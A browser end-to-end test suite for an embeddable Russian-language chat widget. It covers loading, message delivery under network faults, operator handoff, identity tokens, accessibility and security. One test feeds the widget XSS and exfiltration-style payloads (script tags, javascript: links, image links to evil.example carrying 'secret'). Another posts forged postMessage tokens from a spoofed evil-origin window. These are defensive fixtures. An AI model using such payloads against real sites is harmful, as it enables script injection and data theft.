/* The built widget in a real browser, on a foreign page, against the mock. `npm run test:browser -w @neipix/widget`. */
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { ANSWER } from '../mock/dialogues.mjs'
import { frameOf, launch, openChat, read, say, stage, until, violations } from './harness.mjs'

let browser
before(async () => void (browser = await launch()))
after(() => browser.close())

const spoken = ANSWER.text.slice(0, 24).replaceAll('*', '')

/** Runs with a stage of its own; nothing may have been refused by a policy or thrown by a script. */
function scene(name, options, play) {
  test(name, async () => {
    const set = await stage(browser, options)
    try {
      await play(set)
      assert.deepEqual(set.troubles, [])
    } finally {
      await set.close()
    }
  })
}

async function answered(frame, count = 1) {
  await until(async () => (await read(frame)).filter((text) => text.startsWith(spoken)).length === count)
}

scene('a page loads the loader and nothing else, and nothing moves', {}, async ({ mock, visit }) => {
  const page = await visit()
  assert.deepEqual(mock.calls, ['GET /v1/wk_demo.js'])
  const shift = () =>
    page.evaluate(
      () =>
        new Promise((done) => {
          new PerformanceObserver((list) =>
            done(list.getEntries().reduce((sum, one) => sum + one.value, 0)),
          ).observe({
            type: 'layout-shift',
            buffered: true,
          })
          setTimeout(() => done(0), 300)
        }),
    )
  await openChat(page)
  assert.equal(await shift(), 0)
  assert.equal(
    await page.evaluate(() =>
      Object.keys(window)
        .filter((one) => /neipix|npx/i.test(one))
        .join(),
    ),
    'Neipix',
  )
})

scene('a question is sent once and answered, with its sources', {}, async ({ mock, visit }) => {
  const page = await visit()
  const frame = await openChat(page)
  await say(frame, 'Сколько стоит доставка?')
  await answered(frame)
  assert.equal((await read(frame))[0], 'Сколько стоит доставка?')
  assert.equal(mock.calls.filter((one) => one.endsWith('/messages') && one.startsWith('POST')).length, 1)
  await frame.getByRole('button', { name: 'Источник 1: Доставка и оплата.pdf' }).click()
  await frame.getByText('Стоимость доставки по Москве 350 рублей').waitFor()
  assert.deepEqual(await violations(frame), [])
  assert.ok((await page.evaluate(() => window.heard)).includes('sent'))
})

scene(
  'a reload in the middle of an answer shows it from its beginning to its end',
  {},
  async ({ mock, visit }) => {
    const page = await visit()
    const frame = await openChat(page)
    await say(frame, 'Доставка?')
    await frame.getByText('Доставка по Москве').waitFor()
    await page.reload()
    const again = await openChat(page)
    await again.locator('article[aria-busy=true]').waitFor()
    await answered(again)
    assert.equal((await read(again)).length, 2)
    assert.equal(mock.dialogues.only().dialogue.messages.length, 2)
  },
)

scene('a network cut in the middle of an answer heals by itself', {}, async ({ mock, visit }) => {
  const page = await visit()
  const frame = await openChat(page)
  await say(frame, 'Доставка?')
  await frame.getByText('Доставка по Москве').waitFor()
  mock.down = true
  mock.cut()
  await frame.getByText('Нет связи').waitFor({ timeout: 4000 })
  await say(frame, 'И ещё: есть ли самовывоз?')
  await frame.getByText('И ещё: есть ли самовывоз?').waitFor()
  mock.down = false
  await answered(frame, 2)
  const ours = (await read(frame)).filter((text) => !text.startsWith(spoken))
  assert.deepEqual(ours, ['Доставка?', 'И ещё: есть ли самовывоз?'])
  await until(async () => (await frame.getByText('Нет связи').count()) === 0)
})

scene('C-12: lost calls, lost answers, a reload and a second tab send a message once', {}, async (set) => {
  const { mock, visit } = set
  const page = await visit()
  const frame = await openChat(page)
  mock.faults.push('lost', 'cut', 'busy', 'late')
  await say(frame, 'Первое')
  await say(frame, 'Второе')
  await until(() => mock.dialogues.visitors.size > 0 && mock.faults.length < 4)
  await page.reload()
  const other = await visit()
  const [a, b] = [await openChat(page), await openChat(other)]
  await until(
    () => mock.dialogues.only().dialogue?.messages.filter((one) => one.clientId).length >= 2,
    20_000,
  )
  for (const one of [a, b]) {
    await answered(one, 2)
    const ours = (await read(one)).filter((text) => !text.startsWith(spoken))
    assert.deepEqual(ours, ['Первое', 'Второе'])
    await until(async () => (await one.locator('.delivery').count()) === 0)
  }
  const texts = mock.dialogues
    .only()
    .dialogue.messages.filter((one) => one.clientId)
    .map((one) => one.text)
  assert.deepEqual(texts, ['Первое', 'Второе'])
})

scene('who answers now, and a badge for what comes while the chat is closed', {}, async ({ mock, visit }) => {
  const page = await visit()
  const frame = await openChat(page)
  await say(frame, 'Позовите человека')
  await answered(frame)
  await frame.getByRole('button', { name: 'Закрыть чат' }).click()
  await until(async () => (await page.evaluate(() => window.heard)).includes('close'))
  mock.dialogues.operator(mock.dialogues.only(), 'Здравствуйте, это Анна.')
  await until(async () => (await page.evaluate(() => window.heard)).includes('unread:1'))
  await openChat(page)
  await frame.getByText('Здравствуйте, это Анна.').waitFor()
  await frame.getByText('Отвечает оператор').waitFor()
  await frame.getByText('Разговор ведёт оператор').waitFor()
  await until(async () => (await page.evaluate(() => window.heard)).at(-1) === 'unread:0')
  mock.dialogues.handBack(mock.dialogues.only())
  await frame.getByText('Отвечает нейросотрудник', { exact: true }).waitFor()
})

scene('the site vouches for a visitor, and forgets them at log-out', {}, async ({ mock, shop, visit }) => {
  const page = await visit()
  const frame = await openChat(page)
  await say(frame, 'Кто я?')
  await answered(frame)
  const hostCopy = () => page.evaluate(() => localStorage.getItem('npx:wk_demo'))
  assert.match(await hostCopy(), /^vt_/)
  const { token } = await (await fetch(`http://127.0.0.1:${new URL(shop.origin).port}/identity`)).json()
  assert.equal(token.split('.').length, 3)
  mock.dialogues.identities = { get: (jwt) => (jwt.split('.').length === 3 ? 'u-42' : undefined) }
  await page.evaluate(() => document.getElementById('login').click())
  await until(async () => (await page.evaluate(() => window.heard)).includes('identified'))
  // An identified visitor's token is not for the page.
  await until(async () => (await hostCopy()) === null)
  await page.evaluate(() => document.getElementById('logout').click())
  await until(async () => (await read(frame)).length === 0)
  await until(() => mock.calls.includes('POST /api/v1/widget/wk_demo/visitor:reset'))
  assert.equal(await frame.evaluate(() => Object.keys(localStorage).length), 0)
  await page.reload()
  assert.deepEqual(await read(await openChat(page)), [])
})

scene('C-10: an identity token that is refused is told, and shows nobody', {}, async ({ visit }) => {
  const page = await visit()
  const frame = await openChat(page)
  await page.evaluate(() => window.Neipix('identify', 'not.a.token'))
  await frame.getByText('Сайт не смог подтвердить, кто вы').waitFor()
  assert.ok((await page.evaluate(() => window.heard)).includes('identify_failed'))
})

scene(
  'a widget for known visitors says to log in first',
  { config: { requireIdentity: true } },
  async (set) => {
    const page = await set.visit()
    const frame = await openChat(page)
    await frame.getByText('Войдите на сайте, чтобы написать в чат.').waitFor()
    assert.equal(await frame.getByLabel('Сообщение').getAttribute('readonly'), '')
    set.mock.dialogues.identities = new Map([['a.b.c', 'u-1']])
    await page.evaluate(() => window.Neipix('identify', 'a.b.c'))
    await until(async () => (await frame.getByLabel('Сообщение').getAttribute('readonly')) === null)
  },
)

scene('a proof of work is done in a worker, under the policy of the page', {}, async ({ mock, visit }) => {
  mock.proofBits = 14
  const page = await visit()
  const frame = await openChat(page)
  await say(frame, 'С доказательством')
  await answered(frame)
  assert.equal(mock.proofs, 1)
  assert.ok(mock.calls.some((one) => one.includes('/assets/proof.worker')))
})

scene(
  'W-3: markup in names, questions and answers stays text; nothing leaves',
  { config: { title: '<img src=x>' } },
  async (set) => {
    const { mock, visit } = set
    const hostile =
      '<script>alert(1)</script> ![x](https://evil.example/?q=secret) [a](javascript:alert(1)) <img src=https://evil.example/i> https://evil.example/auto'
    mock.dialogues.answer = { text: hostile, citations: [], pause: 5 }
    const page = await visit()
    const foreign = []
    page.on('request', (request) => {
      if (request.url().includes('evil.example')) foreign.push(request.url())
    })
    const frame = await openChat(page)
    await say(frame, '<b>жирно</b>')
    await until(async () => (await read(frame)).length === 2)
    const [question, answer] = await read(frame)
    assert.equal(question, '<b>жирно</b>')
    assert.match(answer, /<script>alert\(1\)<\/script>/)
    assert.equal(await frame.locator('article :is(img, script, b, iframe)').count(), 0)
    assert.deepEqual(
      await frame
        .locator('article a')
        .evaluateAll((links) => links.map((one) => [one.protocol, one.rel, one.target])),
      [['https:', 'noopener noreferrer nofollow ugc', '_blank']],
    )
    assert.deepEqual(foreign, [])
  },
)

test('W-4: a site that is not listed cannot show the chat', async () => {
  const set = await stage(browser, { listed: false })
  try {
    const page = await set.visit()
    await page.evaluate(() => document.getElementById('ask').click())
    await until(() => set.troubles.some((one) => /frame-ancestors/.test(one)))
    assert.ok(!set.mock.calls.some((one) => one.includes('/assets/')), 'nothing of the frame was loaded')
  } finally {
    await set.close()
  }
})

scene(
  'W-5: messages of another window than the loader, or past its port, change nothing',
  {},
  async (set) => {
    const { mock, visit, context } = set
    // The frame itself stands in a closed root: nobody but the loader has its window.
    const page = await visit()
    const frame = await openChat(page)
    await say(frame, 'Вопрос')
    await answered(frame)
    const token = await frame.evaluate(() => localStorage.getItem('npx:visitor:wk_demo'))
    const popup = context.waitForEvent('page')
    await page.evaluate(() => {
      // What looks like the frame's words, from a window that is not the frame.
      window.postMessage({ neipix: 'ready', v: 1 }, '*')
      window.postMessage({ t: 'token', token: 'planted' }, '*')
      window.open(`${location.origin.replace('shop.', 'evil.')}/shop.css`)
    })
    const evil = await popup
    await evil.waitForLoadState()
    await evil.evaluate(() => {
      opener.postMessage({ neipix: 'ready', v: 1 }, '*')
      opener.postMessage({ t: 'token', token: 'planted' }, '*')
    })
    // A second greeting of the right window is one too many, too.
    await frame.evaluate(() => window.dispatchEvent(new MessageEvent('message', { data: { t: 'reset' } })))
    await say(frame, 'Второй вопрос')
    await answered(frame, 2)
    assert.equal(await frame.evaluate(() => localStorage.getItem('npx:visitor:wk_demo')), token)
    assert.equal(await page.evaluate(() => localStorage.getItem('npx:wk_demo')), token)
    assert.equal(mock.dialogues.visitors.size, 1)
    assert.ok(!mock.calls.some((one) => one.endsWith(':reset')))
  },
)

scene('by keyboard alone: open, write, send, close, and the focus comes back', {}, async ({ visit }) => {
  const page = await visit()
  const focused = () => page.evaluate(() => document.activeElement?.tagName.toLowerCase())
  await until(async () => {
    await page.keyboard.press('Tab')
    return (await focused()) === 'neipix-widget'
  })
  await page.keyboard.press('Enter')
  const frame = await frameOf(page)
  await until(() => frame.evaluate(() => document.activeElement?.tagName === 'TEXTAREA'))
  await page.keyboard.type('Строка')
  await page.keyboard.press('Shift+Enter')
  await page.keyboard.type('вторая')
  await page.keyboard.press('Enter')
  await answered(frame)
  assert.equal((await read(frame))[0], 'Строка\nвторая')
  await page.keyboard.press('Escape')
  await until(async () => (await page.evaluate(() => window.heard)).includes('close'))
  assert.equal(await focused(), 'neipix-widget')
})

scene(
  'on a phone the chat covers the page, which stays where it was',
  { context: { viewport: { width: 360, height: 640 }, hasTouch: true, isMobile: true } },
  async ({ visit }) => {
    const page = await visit()
    await page.evaluate(() => scrollTo(0, 300))
    const frame = await openChat(page)
    const size = await frame.evaluate(() => [innerWidth, innerHeight])
    assert.deepEqual(size, [360, 640])
    assert.equal(await page.evaluate(() => document.body.style.position), 'fixed')
    assert.deepEqual(await violations(frame), [])
    await frame.getByRole('button', { name: 'Закрыть чат' }).click()
    await until(() => page.evaluate(() => scrollY === 300))
    assert.equal(await page.evaluate(() => document.body.style.position), '')
  },
)

scene('a site that swaps its body keeps the chat', {}, async ({ visit }) => {
  const page = await visit()
  await page.evaluate(() => {
    const next = document.createElement('body')
    next.append('Другая страница')
    document.body.replaceWith(next)
  })
  await until(() => page.evaluate(() => document.body.querySelector('neipix-widget') !== null))
  await page.evaluate(() => window.Neipix('open'))
  await frameOf(page)
})

test('where the frame gets no storage, the page keeps the token of an anonymous visitor', async () => {
  const strict = await launch({ storage: false })
  const set = await stage(strict)
  try {
    const page = await set.visit()
    const frame = await openChat(page)
    await assert.rejects(() => frame.evaluate(() => localStorage.length))
    await say(frame, 'Без хранилища')
    await answered(frame)
    await page.reload()
    const again = await openChat(page)
    await answered(again)
    assert.equal((await read(again)).length, 2)
    assert.deepEqual(set.troubles, [])
  } finally {
    await set.close()
    await strict.close()
  }
})
